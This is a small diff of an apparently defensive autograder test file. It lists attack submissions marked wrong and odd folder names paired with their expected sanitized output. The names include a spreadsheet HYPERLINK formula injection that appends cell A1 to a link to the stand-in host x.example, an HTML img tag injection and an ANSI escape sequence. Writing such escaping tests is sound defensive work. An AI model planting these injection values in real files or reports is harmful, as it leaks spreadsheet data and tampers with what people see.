@@ -70,7 +70,7 @@ ATTACKS = {  # attack: the start of each task's value
     "attack-long-sum": WRONG, "attack-grader-object": WRONG, "attack-fills-folder": WRONG,
 }
 ODD_NAMES = {  # folders made by the test (issue 30): each holds alice's notebook and grades 3 of 3
-    b"=HYPERLINK(\"http://x.example/?\"&A1,\"click\")": "'=HYPERLINK(",
+    b"=HYPERLINK(\"x.example?\"&A1,\"click\")": "'=HYPERLINK(",  # (a name holds no slash)
     b"forged\n# Heading <img src=x.example>": "forged # Heading <img src=x.example>",
     b"caf\xe9 \x1b[31m(Latin-1)": "caf\\xe9  [31m(Latin-1)",
 }
